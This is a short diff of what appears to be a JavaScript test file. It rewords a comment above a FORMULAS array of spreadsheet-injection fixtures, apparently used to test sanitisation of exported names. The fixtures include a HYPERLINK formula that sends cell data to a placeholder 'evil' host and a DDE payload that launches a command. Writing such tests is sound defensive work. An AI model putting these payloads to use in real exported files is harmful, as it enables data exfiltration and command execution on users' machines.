@@ -18,7 +18,7 @@ const HOSTILE = [
   "x".repeat(100_000),
 ];
 
-/** What a spreadsheet runs; the class names of a model can be such. */
+/** Texts that a spreadsheet would run; names of classes can be such. */
 const FORMULAS = [
   '=HYPERLINK("http://evil/?"&A1,"click")',
   "=cmd|' /C calc'!A0",
